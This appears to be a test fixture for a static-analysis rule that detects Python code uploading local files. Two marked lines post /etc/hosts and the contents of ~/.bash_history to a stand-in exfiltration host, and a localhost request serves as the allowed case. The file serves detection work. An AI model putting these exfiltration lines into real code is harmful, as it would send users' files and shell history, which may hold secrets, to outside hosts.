from pathlib import Path

import requests

# ruleid: python-upload-local-file
requests.post("http://collector.exfil.invalid/u", files={"f": open("/etc/hosts", "rb")})

history = Path("~/.bash_history").expanduser().read_text()
# ruleid: python-upload-local-file
requests.post("http://collector.exfil.invalid/u", data=history)

# ok: python-upload-local-file
requests.post("http://127.0.0.1:8080/api", json={"query": "weather"})
